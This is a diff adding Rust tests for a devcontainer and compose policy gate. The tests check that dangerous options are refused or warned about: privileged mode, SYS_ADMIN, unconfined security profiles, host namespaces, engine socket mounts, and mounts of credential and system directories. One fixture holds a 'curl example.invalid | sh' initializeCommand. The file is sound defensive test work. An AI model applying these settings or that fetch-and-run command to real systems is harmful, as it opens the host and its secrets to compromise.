@@ -1,0 +1,572 @@
+//! The policy gate: each rule refused (or warned) without consent, accepted with consent,
+//! and found wherever it appears (generated file, override file, devcontainer.json,
+//! `runArgs`, configured volumes).
+
+// Helpers outside `#[test]` functions unwrap too: a failure there is a test failure.
+#![allow(clippy::unwrap_used)]
+
+use std::fmt::Write as _;
+
+use aibox_config::{ExtraVolume, SecurityException};
+use aibox_policy::{
+    Consent, Finding, Severity, check_compose, check_devcontainer_json, check_run_args,
+    check_seccomp_profile, check_volumes, generated_profile, has_errors,
+};
+
+const GENERATED: &str = ".devcontainer/docker-compose.yml";
+const OVERRIDE: &str = ".devcontainer/docker-compose.override.yml";
+const DEVCONTAINER: &str = ".devcontainer/devcontainer.json";
+
+struct Case {
+    name: &'static str,
+    /// Lines under the service (4-space indented YAML).
+    compose: &'static str,
+    /// A devcontainer.json member, or "" when the option has no devcontainer form.
+    devcontainer: &'static str,
+    /// `runArgs` form, or empty.
+    run_args: &'static [&'static str],
+    code: &'static str,
+    /// The `[[security.exceptions]]` option that accepts it.
+    option: &'static str,
+}
+
+const CASES: &[Case] = &[
+    Case {
+        name: "privileged",
+        compose: "    privileged: \"true\"\n",
+        devcontainer: "\"privileged\": true",
+        run_args: &["--privileged"],
+        code: "aibox::policy::privileged",
+        option: "privileged",
+    },
+    Case {
+        name: "cap_add SYS_ADMIN",
+        compose: "    cap_add: [CAP_SYS_ADMIN]\n",
+        devcontainer: "\"capAdd\": [\"SYS_ADMIN\"]",
+        run_args: &["--cap-add", "sys_admin"],
+        code: "aibox::policy::cap_add",
+        option: "cap_add:SYS_ADMIN",
+    },
+    Case {
+        name: "cap_add ALL",
+        compose: "    cap_add:\n      - ALL\n",
+        devcontainer: "\"capAdd\": [\"ALL\"]",
+        run_args: &["--cap-add=all"],
+        code: "aibox::policy::cap_add",
+        option: "cap_add:ALL",
+    },
+    Case {
+        name: "apparmor unconfined",
+        compose: "    security_opt:\n      - apparmor:unconfined\n",
+        devcontainer: "\"securityOpt\": [\"apparmor=unconfined\"]",
+        run_args: &["--security-opt", "apparmor=unconfined"],
+        code: "aibox::policy::apparmor_unconfined",
+        option: "apparmor=unconfined",
+    },
+    Case {
+        name: "systempaths unconfined",
+        compose: "    security_opt: [\"systempaths=unconfined\"]\n",
+        devcontainer: "\"securityOpt\": [\"systempaths=unconfined\"]",
+        run_args: &["--security-opt=systempaths=unconfined"],
+        code: "aibox::policy::systempaths_unconfined",
+        option: "systempaths=unconfined",
+    },
+    Case {
+        name: "SELinux label disabled",
+        compose: "    security_opt: [\"label:disable\"]\n",
+        devcontainer: "\"securityOpt\": [\"label=disable\"]",
+        run_args: &["--security-opt", "label=disable"],
+        code: "aibox::policy::selinux_disabled",
+        option: "label=disable",
+    },
+    Case {
+        name: "host network",
+        compose: "    network_mode: host\n",
+        devcontainer: "",
+        run_args: &["--net", "host"],
+        code: "aibox::policy::host_namespace",
+        option: "network_mode:host",
+    },
+    Case {
+        name: "host pid",
+        compose: "    pid: \"host\"\n",
+        devcontainer: "",
+        run_args: &["--pid=host"],
+        code: "aibox::policy::host_namespace",
+        option: "pid:host",
+    },
+    Case {
+        name: "docker socket (short form)",
+        compose: "    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
+        devcontainer: "\"mounts\": [\"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind\"]",
+        run_args: &["-v", "/var/run/docker.sock:/var/run/docker.sock"],
+        code: "aibox::policy::engine_socket",
+        option: "mount:/var/run/docker.sock",
+    },
+    Case {
+        name: "podman socket (long form, interpolated)",
+        compose: "    volumes:\n      - type: bind\n        source: ${SOCK:-/run/user/1000/podman/podman.sock}\n        target: /run/podman.sock\n",
+        devcontainer: "\"mounts\": [{\"source\": \"/run/user/1000/podman/podman.sock\", \"target\": \"/run/p.sock\", \"type\": \"bind\"}]",
+        run_args: &[
+            "--mount",
+            "type=bind,source=/run/user/1000/podman/podman.sock,target=/run/p.sock",
+        ],
+        code: "aibox::policy::engine_socket",
+        option: "mount:/run/user/1000/podman/podman.sock",
+    },
+    Case {
+        name: "host home writable",
+        compose: "    volumes:\n      - ~:/host-home\n",
+        devcontainer: "\"mounts\": [\"source=${localEnv:HOME},target=/host-home,type=bind\"]",
+        run_args: &["--volume=$HOME:/host-home:rw"],
+        code: "aibox::policy::home_mount",
+        option: "mount:~",
+    },
+    Case {
+        name: "~/.ssh writable",
+        compose: "    volumes:\n      - $HOME/.ssh:/home/aibox/.ssh\n",
+        devcontainer: "\"mounts\": [\"source=${localEnv:HOME}/.ssh,target=/home/aibox/.ssh,type=bind\"]",
+        run_args: &["-v", "~/.ssh/:/home/aibox/.ssh"],
+        code: "aibox::policy::credential_mount",
+        option: "mount:~/.ssh",
+    },
+    Case {
+        name: "/etc mounted",
+        compose: "    volumes:\n      - /etc:/host-etc:ro\n",
+        devcontainer: "\"workspaceMount\": \"source=/etc,target=/workspace,type=bind\"",
+        run_args: &["-v", "/etc/../etc:/x:ro"],
+        code: "aibox::policy::sensitive_mount",
+        option: "mount:/etc",
+    },
+    Case {
+        name: "other seccomp profile",
+        compose: "    security_opt:\n      - seccomp=./my-profile.json\n",
+        devcontainer: "\"securityOpt\": [\"seccomp=./my-profile.json\"]",
+        run_args: &["--security-opt", "seccomp=./my-profile.json"],
+        code: "aibox::policy::seccomp_profile",
+        option: "seccomp=./my-profile.json",
+    },
+    Case {
+        name: "build entitlement",
+        compose: "    build:\n      context: .\n      entitlements: [security.insecure]\n",
+        devcontainer: "",
+        run_args: &[],
+        code: "aibox::policy::build_entitlement",
+        option: "build.entitlements:security.insecure",
+    },
+    Case {
+        name: "use_api_socket",
+        compose: "    use_api_socket: yes\n",
+        devcontainer: "",
+        run_args: &[],
+        code: "aibox::policy::engine_socket",
+        option: "use_api_socket",
+    },
+];
+
+fn compose(body: &str) -> String {
+    format!("services:\n  dev:\n    image: localhost/demo:1\n{body}")
+}
+
+fn devcontainer(member: &str) -> String {
+    format!("{{\n  // generated\n  \"name\": \"demo\",\n  \"service\": \"dev\",\n  {member},\n}}\n")
+}
+
+fn with_exception(option: &str) -> Consent {
+    Consent {
+        exceptions: vec![SecurityException {
+            option: option.to_owned(),
+            reason: "fixture: tested on purpose".to_owned(),
+        }],
+        ..Consent::default()
+    }
+}
+
+fn errors_with<'a>(findings: &'a [Finding], code: &str) -> Vec<&'a Finding> {
+    findings
+        .iter()
+        .filter(|f| f.code == code && f.severity == Severity::Error)
+        .collect()
+}
+
+fn assert_refused_then_accepted(
+    case: &Case,
+    location: &str,
+    findings: &[Finding],
+    accepted: &[Finding],
+) {
+    let errs = errors_with(findings, case.code);
+    assert!(
+        !errs.is_empty(),
+        "{} in {location}: not refused: {findings:#?}",
+        case.name
+    );
+    assert!(
+        errs.iter().all(|f| f.option.as_deref().is_some()),
+        "{}",
+        case.name
+    );
+    assert!(
+        !has_errors(accepted),
+        "{} in {location}: still refused with consent: {accepted:#?}",
+        case.name
+    );
+    let warned: Vec<_> = accepted.iter().filter(|f| f.code == case.code).collect();
+    assert!(
+        warned
+            .iter()
+            .all(|f| f.severity == Severity::Warning && f.accepted_reason.is_some()),
+        "{}: the accepted finding stays visible as a warning",
+        case.name
+    );
+    assert!(
+        !warned.is_empty(),
+        "{}: accepted finding must stay visible",
+        case.name
+    );
+}
+
+#[test]
+fn every_rule_is_refused_without_consent_and_accepted_with_it_everywhere() {
+    for case in CASES {
+        let text = compose(case.compose);
+        for file in [GENERATED, OVERRIDE] {
+            let found = check_compose(file, &text, &Consent::default());
+            let accepted = check_compose(file, &text, &with_exception(case.option));
+            assert_refused_then_accepted(case, file, &found, &accepted);
+            assert!(found.iter().all(|f| f.file == file));
+        }
+        if !case.devcontainer.is_empty() {
+            let text = devcontainer(case.devcontainer);
+            let found = check_devcontainer_json(DEVCONTAINER, &text, &Consent::default());
+            let accepted =
+                check_devcontainer_json(DEVCONTAINER, &text, &with_exception(case.option));
+            assert_refused_then_accepted(case, DEVCONTAINER, &found, &accepted);
+        }
+        if !case.run_args.is_empty() {
+            let args: Vec<String> = case.run_args.iter().map(|s| (*s).to_owned()).collect();
+            let found = check_run_args(DEVCONTAINER, "", &args, &Consent::default());
+            let accepted = check_run_args(DEVCONTAINER, "", &args, &with_exception(case.option));
+            assert_refused_then_accepted(case, "runArgs", &found, &accepted);
+            // runArgs inside devcontainer.json are found as well.
+            let json = devcontainer(&format!(
+                "\"runArgs\": {}",
+                serde_json::to_string(&args).unwrap()
+            ));
+            assert!(
+                !errors_with(
+                    &check_devcontainer_json(DEVCONTAINER, &json, &Consent::default()),
+                    case.code
+                )
+                .is_empty(),
+                "{}",
+                case.name
+            );
+        }
+    }
+}
+
+#[test]
+fn refusal_messages() {
+    let mut report = String::new();
+    for case in CASES {
+        let found = check_compose(OVERRIDE, &compose(case.compose), &Consent::default());
+        let _ = writeln!(report, "## {}", case.name);
+        for f in found {
+            let _ = writeln!(report, "{f}");
+        }
+    }
+    insta::assert_snapshot!("gate_refusals", report);
+}
+
+#[test]
+fn seccomp_unconfined_needs_the_dedicated_key_in_the_override_too() {
+    let text = compose("    security_opt:\n      - seccomp:unconfined\n");
+    for file in [GENERATED, OVERRIDE] {
+        let found = check_compose(file, &text, &Consent::default());
+        let errs = errors_with(&found, "aibox::policy::seccomp_unconfined");
+        assert_eq!(errs.len(), 1);
+        assert_eq!(errs[0].line, Some(5));
+        let consent = Consent {
+            seccomp_unconfined: true,
+            ..Consent::default()
+        };
+        assert!(check_compose(file, &text, &consent).is_empty());
+    }
+    let json = devcontainer("\"runArgs\": [\"--security-opt\", \"seccomp=unconfined\"]");
+    assert!(has_errors(&check_devcontainer_json(
+        DEVCONTAINER,
+        &json,
+        &Consent::default()
+    )));
+    insta::assert_snapshot!(
+        "seccomp_unconfined_in_override",
+        check_compose(OVERRIDE, &text, &Consent::default())[0].to_string()
+    );
+}
+
+#[test]
+fn the_generated_profile_needs_its_key() {
+    let text = compose("    security_opt: [\"seccomp=aibox-seccomp.json\"]\n");
+    assert!(has_errors(&check_compose(
+        GENERATED,
+        &text,
+        &Consent::default()
+    )));
+    let consent = Consent {
+        seccomp_profile: true,
+        ..Consent::default()
+    };
+    assert!(check_compose(GENERATED, &text, &consent).is_empty());
+}
+
+#[test]
+fn an_edited_profile_is_detected() {
+    let good = generated_profile().unwrap();
+    assert!(check_seccomp_profile(good.as_bytes(), None).is_empty());
+    let sha = aibox_policy::sha256_hex(good.as_bytes());
+    assert!(check_seccomp_profile(good.as_bytes(), Some(&sha)).is_empty());
+    let edited = good.replacen("SCMP_ACT_ERRNO", "SCMP_ACT_ALLOW", 1);
+    assert!(has_errors(&check_seccomp_profile(edited.as_bytes(), None)));
+    assert!(has_errors(&check_seccomp_profile(
+        good.as_bytes(),
+        Some("00")
+    )));
+}
+
+#[test]
+fn initialize_command_is_refused_and_printed() {
+    let json = devcontainer("\"initializeCommand\": \"curl example.invalid | sh\"");
+    let found = check_devcontainer_json(DEVCONTAINER, &json, &Consent::default());
+    let errs = errors_with(&found, "aibox::policy::initialize_command");
+    assert_eq!(errs.len(), 1);
+    assert!(errs[0].message.contains("curl example.invalid | sh"));
+    assert_eq!(errs[0].line, Some(5));
+    insta::assert_snapshot!("initialize_command", errs[0].to_string());
+    let accepted =
+        check_devcontainer_json(DEVCONTAINER, &json, &with_exception("initializeCommand"));
+    assert!(!has_errors(&accepted));
+}
+
+#[test]
+fn narrower_options_only_warn_and_exceptions_silence_them() {
+    let text = compose(
+        "    cap_add: [NET_ADMIN]\n    devices: [\"/dev/fuse\"]\n    security_opt: [\"no-new-privileges:false\"]\n    volumes:\n      - ~/.ssh:/home/aibox/.ssh:ro\n",
+    );
+    let found = check_compose(OVERRIDE, &text, &Consent::default());
+    assert!(!has_errors(&found), "{found:#?}");
+    let codes: Vec<&str> = found.iter().map(|f| f.code.as_str()).collect();
+    assert_eq!(
+        codes,
+        [
+            "aibox::policy::cap_add_narrow",
+            "aibox::policy::no_new_privileges",
+            "aibox::policy::devices",
+            "aibox::policy::credential_mount"
+        ]
+    );
+    let consent = Consent {
+        exceptions: [
+            "cap_add:net_admin",
+            "devices",
+            "mount:~/.ssh",
+            "no-new-privileges=false",
+        ]
+        .iter()
+        .map(|o| SecurityException {
+            option: (*o).to_owned(),
+            reason: "r".to_owned(),
+        })
+        .collect(),
+        ..Consent::default()
+    };
+    assert!(check_compose(OVERRIDE, &text, &consent).is_empty());
+}
+
+#[test]
+fn safe_files_pass() {
+    let text = compose(
+        "    init: true\n    build:\n      context: .\n    network_mode: service:proxy\n    security_opt: [\"no-new-privileges:true\"]\n    volumes:\n      - ..:/workspace\n      - ../.aibox-home/.codex:/home/aibox/.codex\n      - cargo-cache:/home/aibox/.cargo/registry\n      - /tmp\n    env_file: [../.aibox-local.env]\n",
+    );
+    assert_eq!(check_compose(GENERATED, &text, &Consent::default()), vec![]);
+    let json = devcontainer(
+        "\"dockerComposeFile\": [\"docker-compose.yml\"], \"features\": {\"ghcr.io/devcontainers/features/node:1\": {}}, \"remoteEnv\": {\"TOKEN\": \"${localEnv:TOKEN}\"}",
+    );
+    assert_eq!(
+        check_devcontainer_json(DEVCONTAINER, &json, &Consent::default()),
+        vec![]
+    );
+}
+
+#[test]
+fn unpinned_features_and_includes_warn() {
+    let json = devcontainer("\"features\": {\"ghcr.io/devcontainers/features/node\": {}}");
+    let found = check_devcontainer_json(DEVCONTAINER, &json, &Consent::default());
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0].severity, Severity::Warning);
+    let text = format!("include:\n  - other.yml\n{}", compose(""));
+    let found = check_compose(OVERRIDE, &text, &Consent::default());
+    assert_eq!(found[0].code, "aibox::policy::unchecked_include");
+}
+
+#[test]
+fn unparsable_files_are_refused_with_a_line() {
+    let found = check_compose(OVERRIDE, "services:\n  dev: [\n", &Consent::default());
+    assert_eq!(found[0].code, "aibox::policy::unparsable");
+    assert!(has_errors(&found));
+    let found = check_devcontainer_json(DEVCONTAINER, "{\n \"a\": \n}", &Consent::default());
+    assert_eq!(found[0].code, "aibox::policy::unparsable");
+    assert_eq!(found[0].line, Some(3));
+}
+
+#[test]
+fn configured_volumes_are_checked() {
+    let vols = vec![
+        ExtraVolume {
+            source: "~/.aws".to_owned(),
+            target: "/x".to_owned(),
+            read_only: false,
+        },
+        ExtraVolume {
+            source: "~/.aws".to_owned(),
+            target: "/y".to_owned(),
+            read_only: true,
+        },
+        ExtraVolume {
+            source: "/home/alice".to_owned(),
+            target: "/z".to_owned(),
+            read_only: false,
+        },
+        ExtraVolume {
+            source: "./data".to_owned(),
+            target: "/data".to_owned(),
+            read_only: false,
+        },
+        ExtraVolume {
+            source: "/".to_owned(),
+            target: "/host".to_owned(),
+            read_only: true,
+        },
+        ExtraVolume {
+            source: "/proc/sys".to_owned(),
+            target: "/p".to_owned(),
+            read_only: true,
+        },
+    ];
+    let found = check_volumes(
+        ".aibox-local.toml [[container.extra_volumes]]",
+        &vols,
+        &Consent::default(),
+    );
+    let summary: Vec<(&str, Severity)> = found
+        .iter()
+        .map(|f| (f.code.as_str(), f.severity))
+        .collect();
+    assert_eq!(
+        summary,
+        [
+            ("aibox::policy::credential_mount", Severity::Error),
+            ("aibox::policy::credential_mount", Severity::Warning),
+            ("aibox::policy::home_mount", Severity::Error),
+            ("aibox::policy::sensitive_mount", Severity::Error),
+            ("aibox::policy::sensitive_mount", Severity::Warning),
+        ]
+    );
+}
+
+#[test]
+fn unresolvable_sources_are_suspicious() {
+    let text = compose("    volumes:\n      - ${SOMEWHERE}:/x\n");
+    let found = check_compose(OVERRIDE, &text, &Consent::default());
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0].code, "aibox::policy::unresolved_source");
+}
+
+#[test]
+fn findings_serialise_with_stable_fields() {
+    let found = check_compose(
+        OVERRIDE,
+        &compose("    privileged: true\n"),
+        &Consent::default(),
+    );
+    insta::assert_json_snapshot!("finding_json", found);
+}
+
+mod plan {
+    use aibox_config::{LocalToml, Ownership, PlannedFile, parse_aibox_toml};
+    use aibox_policy::{PolicyError, check_plan};
+    use miette::Diagnostic;
+
+    const TOML: &str = "[container]\nname = \"demo\"\n";
+    const COMPOSE_OK: &str =
+        "services:\n  demo:\n    image: x\n    security_opt: [\"seccomp=unconfined\"]\n";
+
+    fn files(compose: &str) -> Vec<PlannedFile> {
+        vec![
+            PlannedFile::generated(".devcontainer/docker-compose.yml", compose),
+            PlannedFile::generated(".devcontainer/devcontainer.json", "{ \"name\": \"demo\" }"),
+            // Local state may hold personal values: never scanned.
+            PlannedFile::new(
+                ".aibox-local.env",
+                "GH_TOKEN=ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000\n",
+                Ownership::LocalState,
+            ),
+        ]
+    }
+
+    #[test]
+    fn the_plan_gate_refuses_before_writing() {
+        let config = parse_aibox_toml(TOML, "aibox.toml").unwrap();
+        let override_text = "services:\n  demo:\n    privileged: true\n";
+        let err = check_plan(
+            &config,
+            &LocalToml::default(),
+            &files(COMPOSE_OK),
+            Some(override_text),
+        )
+        .unwrap_err();
+        let PolicyError::Gate { findings, .. } = &err else {
+            unreachable!()
+        };
+        let codes: Vec<&str> = findings.iter().map(|f| f.code.as_str()).collect();
+        assert_eq!(
+            codes,
+            [
+                "aibox::policy::seccomp_unconfined",
+                "aibox::policy::privileged"
+            ]
+        );
+        insta::assert_snapshot!(
+            "plan_gate",
+            format!(
+                "code: {}\nerror: {err}\nhelp:\n{}",
+                err.code().unwrap(),
+                err.help().unwrap()
+            )
+        );
+    }
+
+    #[test]
+    fn the_plan_gate_passes_with_consent_and_scans_committed_files() {
+        let config = parse_aibox_toml(
+            &format!("{TOML}[ai]\nharnesses = [\"codex\"]\n[security]\nacknowledge_seccomp_unconfined = true\n"),
+            "aibox.toml",
+        )
+        .unwrap();
+        let warnings =
+            check_plan(&config, &LocalToml::default(), &files(COMPOSE_OK), None).unwrap();
+        assert!(warnings.is_empty(), "{warnings:#?}");
+        let mut with_secret = files(COMPOSE_OK);
+        with_secret.push(PlannedFile::generated(
+            ".mcp.json",
+            "{\"mcpServers\": {\"gh\": {\"env\": {\"GITHUB_TOKEN\": \"literal-value\"}}}}",
+        ));
+        let err = check_plan(&config, &LocalToml::default(), &with_secret, None).unwrap_err();
+        let PolicyError::Gate { findings, .. } = err else {
+            unreachable!()
+        };
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].file, ".mcp.json");
+        assert!(findings[0].remedy.contains("${GITHUB_TOKEN}"));
+    }
+}
